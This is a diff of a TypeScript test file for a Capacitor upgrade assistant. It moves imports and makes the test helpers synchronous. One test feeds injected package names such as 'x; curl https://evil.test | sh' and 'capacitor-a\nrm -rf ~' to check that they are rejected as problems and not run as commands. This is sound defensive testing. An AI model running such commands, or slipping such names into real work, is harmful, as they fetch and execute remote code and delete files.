@@ -1,8 +1,8 @@
-import {toMarkdown} from '../../../../plugins/site/upgrade-assistant/engine/markdown';
-import {pastedFile} from '../../../../plugins/site/upgrade-assistant/engine/given';
-import {makePlan} from '../../../../plugins/site/upgrade-assistant/engine/plan';
-import type {Project} from '../../../../plugins/site/upgrade-assistant/engine/project';
-import type {Step} from '../../../../plugins/site/upgrade-assistant/engine/steps/types';
+import {toMarkdown} from '../../../../packages/upgrade/markdown';
+import {pastedFile} from '../../../../packages/upgrade/given';
+import {makePlan} from '../../../../packages/upgrade/plan';
+import type {Project} from '../../../../packages/upgrade/project';
+import type {Step} from '../../../../packages/upgrade/steps/types';
 import {assistantData, planOf} from '../../../support/assistant';
 
 const UPGRADE = {from: 5, to: 7};
@@ -24,22 +24,22 @@ const KOTLIN = {
 const markdownOf = (steps: readonly Step[]): string =>
   toMarkdown(steps, {...UPGRADE, site: 'https://example.com/docs'});
 
-async function stepsOf(change: (project: Project) => Project = (project) => project): Promise<Step[]> {
-  const {project} = await planOf([MANIFEST, KOTLIN], UPGRADE);
-  return makePlan(change(project), UPGRADE, await assistantData());
+function stepsOf(change: (project: Project) => Project = (project) => project): Step[] {
+  const {project} = planOf([MANIFEST, KOTLIN], UPGRADE);
+  return makePlan(change(project), UPGRADE, assistantData());
 }
 
-test('a version in a variable that a library uses is one replacement', async () => {
-  const steps = await stepsOf();
+test('a version in a variable that a library uses is one replacement', () => {
+  const steps = stepsOf();
   expect(steps.filter(({failure}) => failure !== undefined)).toEqual([]);
-  const kotlin = (await assistantData()).requirements.kotlin?.[UPGRADE.to];
+  const kotlin = assistantData().requirements.kotlin?.[UPGRADE.to];
   expect(markdownOf(steps)).toContain(
     `-    ext.kotlin_version = '1.8.20'\n  +    ext.kotlin_version = '${kotlin}'\n`,
   );
 });
 
-test('a step that throws says so and leads to its guide, and the others stay as they are', async () => {
-  const broken = await stepsOf(({build, ...project}) => ({
+test('a step that throws says so and leads to its guide, and the others stay as they are', () => {
+  const broken = stepsOf(({build, ...project}) => ({
     ...project,
     build: {
       ...build!,
@@ -52,15 +52,15 @@ test('a step that throws says so and leads to its guide, and the others stay as 
   expect(failed.map(({id}) => id)).toEqual(expect.arrayContaining(['gradle', 'kotlin']));
   const ids = failed.map(({id}) => id);
   const others = (steps: readonly Step[]): Step[] => steps.filter(({id}) => !ids.includes(id));
-  expect(others(broken)).toEqual(others(await stepsOf()));
+  expect(others(broken)).toEqual(others(stepsOf()));
   expect(failed.every(({phase, guides}) => phase === 'android' && guides.length > 0)).toBe(true);
   expect(markdownOf(broken)).toMatch(
     /This step failed for your project \(no content\)\. Follow the guide's section instead\.[^]*?Guide: <https:/,
   );
 });
 
-test('a step with edits that contradict each other goes without them', async () => {
-  const steps = await stepsOf(({build, ...project}) => ({
+test('a step with edits that contradict each other goes without them', () => {
+  const steps = stepsOf(({build, ...project}) => ({
     ...project,
     build: {
       ...build!,
@@ -77,7 +77,7 @@ test('a step with edits that contradict each other goes without them', async () 
   expect(kotlin?.edits).toEqual([]);
 });
 
-test('a name that npm does not allow is a problem, and no part of a command', async () => {
+test('a name that npm does not allow is a problem, and no part of a command', () => {
   const names = [
     'x; curl https://evil.test | sh',
     'capacitor-a\nrm -rf ~',
@@ -87,10 +87,7 @@ test('a name that npm does not allow is a problem, and no part of a command', as
     'Old-capacitor',
   ];
   const dependencies = Object.fromEntries(['@capacitor/core', ...names].map((name) => [name, '^5.0.0']));
-  const {project, steps} = await planOf(
-    [{path: 'package.json', text: JSON.stringify({dependencies})}],
-    UPGRADE,
-  );
+  const {project, steps} = planOf([{path: 'package.json', text: JSON.stringify({dependencies})}], UPGRADE);
   expect(project.problems).toEqual([
     {
       path: 'package.json',
@@ -119,9 +116,9 @@ test.each([
     `export default ${'{a:'.repeat(20_000)}1${'}'.repeat(20_000)}`,
     'It has a syntax error',
   ],
-])('%s with too much inside of each other is a problem of that file alone', async (path, text, message) => {
+])('%s with too much inside of each other is a problem of that file alone', (path, text, message) => {
   const others = path === MANIFEST.path ? [KOTLIN] : [MANIFEST, KOTLIN];
-  const {project, steps} = await planOf([...others, {path, text}], UPGRADE);
+  const {project, steps} = planOf([...others, {path, text}], UPGRADE);
   expect(project.problems.map((problem) => problem.path)).toEqual([path]);
   expect(project.problems[0]?.message).toContain(message);
   expect(steps.map(({id}) => id)).toContain('kotlin');
